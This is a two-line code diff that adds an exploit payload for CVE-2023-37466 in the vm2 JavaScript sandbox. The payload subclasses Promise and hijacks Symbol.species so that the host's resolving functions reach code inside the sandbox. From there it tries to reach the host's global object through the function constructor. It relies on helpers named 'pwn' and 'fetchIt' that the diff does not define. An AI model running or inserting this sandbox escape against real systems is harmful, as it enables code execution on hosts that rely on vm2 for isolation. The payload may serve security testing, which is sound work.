@@ -1,0 +1,2 @@
+// vm2 CVE-2023-37466: Promise species receives host resolving functions (runAsync)
+class P extends Promise { constructor(ex) { super((res, rej) => { pwn(res); try { pwn(res.constructor('return this')()) } catch (e) {} ex(res, rej) }) } } Object.defineProperty(Promise, Symbol.species, { value: P }); try { fetchIt(1).then(() => {}) } catch (e) {} try { P.resolve(1).then(() => {}) } catch (e) {} fetchIt(0).then(() => 1, () => 1)
